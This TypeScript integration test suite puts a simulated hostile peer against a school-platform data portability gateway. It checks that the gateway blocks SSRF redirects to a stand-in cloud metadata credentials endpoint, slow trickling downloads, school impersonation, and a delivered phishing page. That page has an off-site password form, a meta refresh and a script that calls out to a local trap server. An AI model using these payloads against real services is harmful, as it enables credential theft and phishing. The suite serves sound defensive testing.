import { createHash, randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { chromium } from 'playwright-core';
import { decodePart } from './support/hostile/jwt';
import { ContentBehaviour, RoguePeer, startRecordingServer, startRoguePeer } from './support/hostile/rogue-peer';
import { freePort } from './support/ports';
import { s3Client } from './support/s3';
import { bootStack, clientCredentialsToken, DEMO, StackSession, TeacherClient, waitUntil } from './support/stack-session';

/*
 * Issue 14: a registered departure that is hostile. Gateway B (the arrival) has two peers: the
 * real gateway A and `ent-h`, a server written here that signs its manifests with a key it
 * publishes, and answers content requests as each test decides. Everything runs on loopback:
 * the stack allows exactly 127.0.0.1/32, and the stand-in for the cloud metadata service listens
 * on 127.0.0.2 (Linux answers on all of 127.0.0.0/8), an address the policy refuses.
 */
jest.setTimeout(600_000);

const ROGUE_UAI = '0330003H';
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

let env: StackSession;
let rogue: RoguePeer;
let metadata: Awaited<ReturnType<typeof startRecordingServer>>;
let marieB: TeacherClient;
const SECRET = Buffer.from('{"AccessKeyId":"ASIA-STOLEN","SecretAccessKey":"do-not-leak","Token":"x"}');

beforeAll(async () => {
  rogue = await startRoguePeer('ent-h');
  rogue.uais = [ROGUE_UAI];
  metadata = await startRecordingServer('127.0.0.2', SECRET);
  const ports = { idp: await freePort(), gatewayA: await freePort(), gatewayB: await freePort() };
  rogue.issuer = `http://127.0.0.1:${ports.idp}`;
  const gwA = `http://127.0.0.1:${ports.gatewayA}`;
  const gwB = `http://127.0.0.1:${ports.gatewayB}`;
  env = await bootStack('hostile-peer', {
    ports,
    env: {
      'idp-sim': { IDP_RESOURCES: JSON.stringify([gwA, gwB, rogue.url]) },
      'gateway-b': {
        // 1 KiB/s: a 1 KiB object must arrive within PEER_TIMEOUT_MS + 1 s, a 4 MiB one within about an hour.
        FETCH_MIN_BYTES_PER_SECOND: '1024',
        // A peer that failed waits 20 s, then 40 s…: long enough for the test to read the teacher's notice.
        JOB_BACKOFF_BASE_MS: '20000',
        PEERS: JSON.stringify([
          { entId: 'ent-a', clientId: DEMO.clientA.id, discoveryUrl: `${gwA}/.well-known/ent-portability`, uais: [DEMO.uaiA] },
          { entId: rogue.entId, clientId: DEMO.clientC.id, discoveryUrl: `${rogue.url}/.well-known/ent-portability`, uais: [ROGUE_UAI] },
        ]),
      },
    },
  });
  marieB = await TeacherClient.login(env.stack.urls.gatewayB, 'marie.dupont', 'demo-marie');
});

afterAll(async () => {
  await env?.close();
  await rogue?.close();
  await metadata?.close();
});

const rogueToken = (scope: string) => clientCredentialsToken(env.stack.urls.idp, DEMO.clientC, env.stack.urls.gatewayB, scope);

interface RogueItem {
  itemId: string;
  bytes: Buffer;
  behaviour: ContentBehaviour;
}

/** The rogue peer offers and delivers `items` to B in marie's name; returns the offer id. */
async function rogueTransfer(items: RogueItem[], departureUai = ROGUE_UAI, owner = 'marie.dupont', indexHtml?: Buffer): Promise<{ offerId: string; offerStatus: number; offerBody: any }> {
  const offerId = randomUUID();
  const offerRes = await fetch(`${env.stack.urls.gatewayB}/portability/v1/offers`, {
    method: 'POST',
    headers: { authorization: `Bearer ${await rogueToken('portability:offer')}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      offerId,
      contractVersion: '1',
      departure: { entId: rogue.entId, uai: departureUai },
      arrival: { uai: DEMO.uaiB },
      owner: { identityClaim: 'sub', identity: owner },
      expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
      items: items.map((i) => ({ itemId: i.itemId, title: `Document ${i.itemId}`, category: 'STOCKAGE_PARTAGE', formats: [{ format: 'binary', mediaType: 'application/pdf', sizeBytes: i.bytes.length }] })),
    }),
  });
  const offerBody = await offerRes.json();
  if (offerRes.status !== 200) return { offerId, offerStatus: offerRes.status, offerBody };
  for (const i of items) rogue.content.set(i.itemId, i.behaviour);
  if (indexHtml) rogue.content.set('index.html', { body: indexHtml });
  const manifest = rogue.signManifest({
    offerId,
    departureEntId: rogue.entId,
    arrivalEntId: 'ent-b',
    issuedAt: new Date().toISOString(),
    objects: items.map((i) => ({
      itemId: i.itemId, role: 'content', format: 'binary', mediaType: 'application/pdf', sizeBytes: i.bytes.length, sha256: sha256(i.bytes),
      contentUrl: `${rogue.url}/portability/v1/transfers/${offerId}/items/${i.itemId}/content`,
    })),
    ...(indexHtml
      ? { index: [{ name: 'index.html', mediaType: 'text/html; charset=utf-8', sizeBytes: indexHtml.length, sha256: sha256(indexHtml), contentUrl: `${rogue.url}/portability/v1/transfers/${offerId}/items/index.html/content` }] }
      : {}),
  });
  const delivery = await fetch(`${env.stack.urls.gatewayB}/portability/v1/offers/${offerId}/deliveries`, {
    method: 'POST',
    headers: { authorization: `Bearer ${await rogueToken('portability:deliver')}`, 'content-type': 'application/json' },
    body: JSON.stringify({ manifest }),
  });
  expect(delivery.status).toBe(202);
  // §8.3: what arrived is imported when its owner logs in; then the receipt goes back.
  if (owner === 'marie.dupont') marieB = await TeacherClient.login(env.stack.urls.gatewayB, 'marie.dupont', 'demo-marie');
  return { offerId, offerStatus: 200, offerBody };
}

/** No owner proof in these offers (ADR 010): marie accepts them at B, which imports and sends the receipt. */
async function acceptAtArrival(offerId: string): Promise<void> {
  await waitUntil('the arrival asks marie', async () => (await marieB.json('GET', `/api/received/${offerId}`)).state === 'AWAITING_ACCEPTANCE', 90_000);
  await marieB.json('POST', `/api/received/${offerId}/accept`);
}

async function arrivalObjects(offerId: string): Promise<string[]> {
  const names: string[] = [];
  const stream = s3Client(env.s3).listObjectsV2(env.buckets.b, `arrival/${offerId}/`, true);
  for await (const o of stream) names.push((o as { name: string }).name);
  return names;
}

describe('outbound policy: a hostile departure cannot reach the arrival\'s network (findings 1, 2)', () => {
  it('refuses a content redirect to a metadata address and to the arrival\'s own connector; the receipt says only a stable code', async () => {
    const connectorUrl = `${env.stack.urls.entB}/connector/v1/users/marie.dupont/contents`;
    const { offerId } = await rogueTransfer([
      { itemId: 'metadata', bytes: SECRET, behaviour: { redirect: `${metadata.url}/latest/meta-data/iam/security-credentials/` } },
      { itemId: 'internal', bytes: Buffer.from('x'), behaviour: { redirect: connectorUrl } },
    ]);
    await acceptAtArrival(offerId);
    const receipt = await waitUntil('the receipt at the rogue peer', async () => rogue.receipts.find((r) => r.transferId === offerId), 90_000);
    // Nothing reached the metadata stand-in, nothing was stored.
    expect(metadata.hits).toEqual([]);
    expect(await arrivalObjects(offerId)).toEqual([]);
    const payload = decodePart(receipt.receipt, 1);
    const byId = Object.fromEntries(payload.items.map((i: any) => [i.itemId, i]));
    expect(byId.metadata).toEqual({ itemId: 'metadata', status: 'FAILED', reason: 'CONTENT_ORIGIN_NOT_ALLOWED' });
    expect(byId.internal).toEqual({ itemId: 'internal', status: 'FAILED', reason: 'CONTENT_ORIGIN_NOT_ALLOWED' });
    // No status, port or message of an internal call in what the peer receives. The offer id and
    // the date are left out of the search: a random UUID or a millisecond count may well contain
    // "401" (this test failed once on offerId 08da983c-8465-4016-…).
    const { offerId: receiptOfferId, issuedAt, ...told } = payload;
    expect([receiptOfferId, Number.isFinite(Date.parse(issuedAt))]).toEqual([offerId, true]);
    expect(Object.keys(told).sort()).toEqual(['arrivalEntId', 'departureEntId', 'items']);
    expect(JSON.stringify(told)).not.toMatch(/401|403|404|answered|127\.0\.0|ECONN|connector|http/i);
    // The teacher reads the same codes (in French on her pages), never the internals.
    const view = await marieB.json('GET', `/api/received/${offerId}`);
    expect(view.items.map((i: any) => i.lastError)).toEqual(['CONTENT_ORIGIN_NOT_ALLOWED', 'CONTENT_ORIGIN_NOT_ALLOWED']);
  });

  it('refuses a content URL whose first hop is fine but which is a second redirect away from the metadata service', async () => {
    // The peer's own origin redirects to itself, which redirects to the metadata stand-in.
    const hop = `${rogue.url}/portability/v1/transfers/x/items/hop/content`;
    rogue.content.set('hop', { redirect: `${metadata.url}/latest/meta-data/` });
    const { offerId } = await rogueTransfer([{ itemId: 'twice', bytes: SECRET, behaviour: { redirect: hop } }]);
    await acceptAtArrival(offerId);
    const receipt = await waitUntil('the receipt at the rogue peer', async () => rogue.receipts.find((r) => r.transferId === offerId), 90_000);
    expect(metadata.hits).toEqual([]);
    expect(await arrivalObjects(offerId)).toEqual([]);
    expect(decodePart(receipt.receipt, 1).items[0]).toEqual({ itemId: 'twice', status: 'FAILED', reason: 'CONTENT_ORIGIN_NOT_ALLOWED' });
  });
});

describe('deadlines and fairness: a trickling departure stalls nobody else (finding 3)', () => {
  it('completes a normal transfer from ENT A while two trickling fetches of the hostile peer are still connected', async () => {
    // Declared 4 MiB each: their deadline at 1 KiB/s is an hour, so they hold their slots all along.
    const big = Buffer.alloc(4 * 1024 * 1024, 7);
    await rogueTransfer([
      { itemId: 'trickle-1', bytes: big, behaviour: { trickle: big, intervalMs: 2000 } },
      { itemId: 'trickle-2', bytes: big, behaviour: { trickle: big, intervalMs: 2000 } },
    ], ROGUE_UAI, 'lucas.moreau');
    await waitUntil('both trickles connected', async () => rogue.openTrickles() === 2, 60_000);

    const atA = await TeacherClient.login(env.stack.urls.gatewayA, 'marie.dupont', 'demo-marie');
    const { items: contents } = await atA.json<{ items: any[] }>('GET', '/api/contents');
    const pdf = contents.find((c) => c.category === 'STOCKAGE_PARTAGE');
    const course = contents.find((c) => c.category === 'PARCOURS_PEDAGOGIQUE');
    const draft = await atA.json('POST', '/api/transfers', { arrivalUai: DEMO.uaiB, itemIds: [pdf.id, course.id] });
    await atA.json('POST', `/api/transfers/${draft.id}/analysis`);
    await atA.json('POST', `/api/transfers/${draft.id}/start`);
    const atB = await TeacherClient.login(env.stack.urls.gatewayB, 'marie.dupont', 'demo-marie');
    // Everything fetched (then imported at her login): the other ENT's transfer is not held up.
    await waitUntil('arrival fetched everything', async () => {
      const t = await atB.json('GET', `/api/received/${draft.id}`);
      return ['AWAITING_OWNER', 'IMPORTING', 'DONE'].includes(t.state) && t.items.every((i: any) => i.state !== 'TO_FETCH');
    }, 240_000);
    // ... while the attacker still holds its two connections.
    expect(rogue.openTrickles()).toBe(2);
    rogue.content.delete('trickle-1');
    rogue.content.delete('trickle-2');
    rogue.dropTrickles();
  });

  it('cuts a trickle at its deadline, closes the socket, slows the peer down and tells the teacher why', async () => {
    await waitUntil('previous trickles gone', async () => rogue.openTrickles() === 0, 60_000);
    const small = Buffer.alloc(1024, 3); // 1 KiB: deadline PEER_TIMEOUT_MS + 1 s; at 1 byte / 2 s it would take 34 min
    const { offerId } = await rogueTransfer([{ itemId: 'slow', bytes: small, behaviour: { trickle: small, intervalMs: 2000 } }]);
    await waitUntil('the trickle connected', async () => rogue.openTrickles('slow') === 1, 120_000);
    const started = Date.now();
    await waitUntil('the arrival closed the trickle', async () => rogue.openTrickles('slow') === 0, 120_000);
    // Cut by the gateway long before the 34 minutes the trickle needs; nothing kept of it.
    expect(Date.now() - started).toBeLessThan(5 * 60_000);
    expect(await arrivalObjects(offerId)).toEqual([]);
    const view = await waitUntil('the teacher told why', async () => {
      const t = await marieB.json('GET', `/api/received/${offerId}`);
      return t.departureSlowedUntil && t;
    }, 60_000);
    expect(view.state).toBe('FETCHING');
    expect(view.notice).toMatch(/L’ENT de départ répond trop lentement/);
    const page = await marieB.request('GET', `/recus/${offerId}`);
    expect(await page.text()).toContain('répond trop lentement');
    rogue.content.delete('slow');
  });
});

describe('departure school: a peer cannot pass for another ENT\'s school (finding 7)', () => {
  it('refuses an offer whose departure UAI the calling peer does not serve, even when its own discovery lists it, and records nothing', async () => {
    // The hostile peer publishes ENT A's school among its own: only the arrival's registry counts.
    rogue.uais = [ROGUE_UAI, DEMO.uaiA];
    try {
      const bytes = Buffer.from('a false origin');
      const refused = await rogueTransfer([{ itemId: 'origin', bytes, behaviour: { body: bytes } }], DEMO.uaiA);
      expect(refused.offerStatus).toBe(422);
      expect(refused.offerBody.type).toBe('urn:ent-portability:problem:unknown-departure');
      expect(refused.offerBody.status).toBe(422);
      // Nothing was recorded under that offer id: marie sees no such transfer…
      expect((await marieB.request('GET', `/api/received/${refused.offerId}`)).status).toBe(404);
      const list = await marieB.json('GET', '/api/received');
      expect(JSON.stringify(list)).not.toContain(refused.offerId);
      // …and the same id offered again from the peer's own school is a new offer, not a conflict.
      const offerAgain = await fetch(`${env.stack.urls.gatewayB}/portability/v1/offers`, {
        method: 'POST',
        headers: { authorization: `Bearer ${await rogueToken('portability:offer')}`, 'content-type': 'application/json' },
        body: JSON.stringify({
          offerId: refused.offerId,
          contractVersion: '1',
          departure: { entId: rogue.entId, uai: ROGUE_UAI },
          arrival: { uai: DEMO.uaiB },
          owner: { identityClaim: 'sub', identity: 'marie.dupont' },
          expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
          items: [{ itemId: 'origin', title: 'Document origin', category: 'STOCKAGE_PARTAGE', formats: [{ format: 'binary', mediaType: 'application/pdf', sizeBytes: bytes.length }] }],
        }),
      });
      expect(offerAgain.status).toBe(200);
    } finally {
      rogue.uais = [ROGUE_UAI];
    }
  });
});

describe('the delivered index.html can do nothing on the gateway\'s origin (finding 5)', () => {
  const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

  it('serves the peer\'s page sandboxed: its off-site password form cannot submit, its meta refresh does not navigate, its script does not run', async () => {
    const trap = await startRecordingServer('127.0.0.3', Buffer.from('trapped'));
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
    try {
      expect(existsSync(CHROMIUM)).toBe(true);
      const page = Buffer.from(
        `<!doctype html><html><head><title>Index</title><meta http-equiv="refresh" content="1;url=${trap.url}/refreshed"><base href="${trap.url}/based/"></head>` +
          `<body><h1>Session expirée</h1><form id="phish" action="${trap.url}/steal" method="post"><input name="login" value="marie.dupont">` +
          `<input type="password" name="password" value="secret"><button id="go" type="submit">Se reconnecter</button></form>` +
          `<a id="rel" href="relative">suite</a><script>document.title = 'pwned'; fetch('${trap.url}/script-ran'); new Image().src = '${trap.url}/img-from-script';</script></body></html>`,
      );
      const bytes = Buffer.from('the content');
      const { offerId } = await rogueTransfer([{ itemId: 'with-index', bytes, behaviour: { body: bytes } }], ROGUE_UAI, 'marie.dupont', page);
      const path = `/api/received/${offerId}/index/index.html`;
      await waitUntil('the index kept by the arrival', async () => (await marieB.request('GET', path)).status === 200, 120_000);

      // In a real browser, with marie's session cookie on the gateway's origin.
      const url = `${env.stack.urls.gatewayB}${path}`;
      const context = await browser.newContext();
      const cookies = marieB.jar.header(url).split(';').map((c) => c.trim()).filter(Boolean).map((c) => {
        const eq = c.indexOf('=');
        return { name: c.slice(0, eq), value: c.slice(eq + 1), url: env.stack.urls.gatewayB };
      });
      await context.addCookies(cookies);
      const tab = await context.newPage();
      const shown = await tab.goto(url);
      expect(shown!.status()).toBe(200);
      await tab.waitForTimeout(3000); // the refresh was due after 1 s
      expect(tab.url()).toBe(url);
      expect(await tab.title()).toBe('Index');
      await tab.click('#go', { noWaitAfter: true }).catch(() => undefined);
      await tab.waitForTimeout(2000);
      expect(tab.url()).toBe(url);
      expect(trap.hits).toEqual([]);
      await context.close();

      // What makes it so: the response headers.
      const res = await marieB.request('GET', path);
      const csp = res.headers.get('content-security-policy') ?? '';
      const directives = csp.split(';').map((d) => d.trim());
      expect(directives).toContain('sandbox');
      expect(directives).toContain("default-src 'none'");
      expect(directives).toContain("form-action 'none'");
      expect(directives).toContain("frame-ancestors 'none'");
      expect(directives).toContain("base-uri 'none'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    } finally {
      await browser.close();
      await trap.close();
    }
  });
});
